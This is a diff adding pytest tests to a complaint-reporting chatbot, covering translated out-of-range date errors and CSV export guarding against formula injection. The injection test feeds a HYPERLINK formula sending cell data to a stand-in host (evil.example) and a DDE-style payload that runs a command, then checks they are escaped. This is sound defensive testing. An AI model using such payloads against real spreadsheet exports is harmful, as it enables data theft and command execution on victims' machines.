@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import logging
 from collections.abc import AsyncIterator
 
 import pytest
@@ -91,3 +92,62 @@ async def test_stats_work_in_the_staff_group_too(bed: TestBed) -> None:
     await room.send("/stats month")
     chart = await room.expect_message()
     assert "photo" in chart and "No cases were filed in this period." in text_of(chart)
+
+
+@pytest.mark.parametrize(
+    ("language", "command", "expected"),
+    [
+        (
+            "en",
+            "/stats 0001-01-01..0001-01-02",
+            "That date is out of range: dates go from Jan 1, 1970 to Dec 31, 2100.",
+        ),
+        ("en", "/export csv 9999-12-30..9999-12-31", "That date is out of range"),
+        ("zh-hans", "/stats 9999-12-30..9999-12-31", "日期超出范围：日期须在1970年1月1日至2100年12月31日之间。"),
+        ("zh-hans", "/export csv 0001-01-01..0001-01-02", "日期超出范围"),
+    ],
+)
+async def test_dates_out_of_range_get_a_translated_answer(
+    bed: TestBed, caplog: pytest.LogCaptureFixture, language: str, command: str, expected: str
+) -> None:
+    supervisor = bed.person(9501, "Supervisor", language)
+    await enlist(bed, supervisor, "supervisor")
+    await supervisor.send(command)
+    await supervisor.expect_message(contains=expected)
+    await supervisor.expect_no_message(wait=0.5)  # no apology after it
+    assert not bed.emulator.calls_of("sendPhoto") and not bed.emulator.calls_of("sendDocument")
+    assert [r for r in caplog.records if r.levelno >= logging.ERROR] == []
+    admin = bed.person(ADMIN_ID, "Admin", "en")
+    await admin.expect_no_message(wait=0.3)  # and no alert for the admins
+
+
+async def test_the_csv_export_cannot_carry_a_formula_into_a_spreadsheet(bed: TestBed) -> None:
+    """A resident types a formula as the address and the description; the export shows them as text (OWASP)."""
+    description = '=HYPERLINK("http://evil.example/?"&A1,"Open case")'
+    address = '@SUM(1+1)*cmd|" /C calc"!A0'
+    resident = bed.person(9601, "Mallory", "en")
+    await resident.send("/report")
+    await resident.press(await resident.expect_message(contains="What kind of problem"), "Exposed garbage")
+    await resident.expect_message(contains="Where is it?")
+    await resident.send(address)
+    await resident.expect_message(contains="Address noted")
+    await resident.press(await resident.expect_message(contains="Which district"), "Wuhan")
+    await resident.expect_message(contains="describe the problem")
+    await resident.send(description)
+    await resident.press(await resident.expect_message(contains="A photo helps"), "Skip")
+    await resident.press(await resident.expect_message(contains="Please check your report"), "Submit")
+    await resident.expect_message(contains="Your report number is")
+    row = await bed.db.fetchone("SELECT address_text, description FROM reports")
+    assert tuple(row) == (address, description)  # stored as typed: only the spreadsheet is guarded
+
+    admin = bed.person(ADMIN_ID, "Admin", "en")
+    await admin.send("/export csv today")
+    document = await admin.expect_message(contains="1 case filed")
+    text = sent_file(bed, document, "document").decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert rows[0]["description"] == "'" + description
+    assert rows[0]["address"] == "'" + address
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), column
+            assert not cell.startswith("-") or column in insight.NUMBER_COLUMNS, column
